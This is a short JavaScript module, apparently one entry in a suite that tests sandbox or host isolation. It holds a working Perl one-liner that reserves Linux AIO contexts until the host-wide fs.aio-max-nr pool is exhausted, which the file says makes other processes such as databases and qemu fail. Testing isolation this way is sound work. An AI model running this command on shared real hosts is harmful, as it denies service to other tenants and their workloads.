import { defineAttack } from '../attack.js';

export default defineAttack({
  id: 'aio-reserve',
  class: 'host-global-pools',
  languages: ['any'],
  why: "reserves AIO contexts (io_setup) until the host-wide fs.aio-max-nr pool is empty, which makes every other process's io_setup fail (databases, qemu) while they are held",
  commands: [
    String.raw`perl -e '$| = 1; my ($n, $events) = (0, 0); for (1 .. 64) { my $ctx = pack("Q", 0); if (syscall(206, 65536, $ctx) != 0) { print "io_setup: $!\n"; last } $n++; $events += 65536 } print "$n contexts, $events events reserved\n"; sleep 3 if $n'; cat /proc/sys/fs/aio-nr`,
  ],
  parallelSafe: false,
  expected: ['graded'],
});
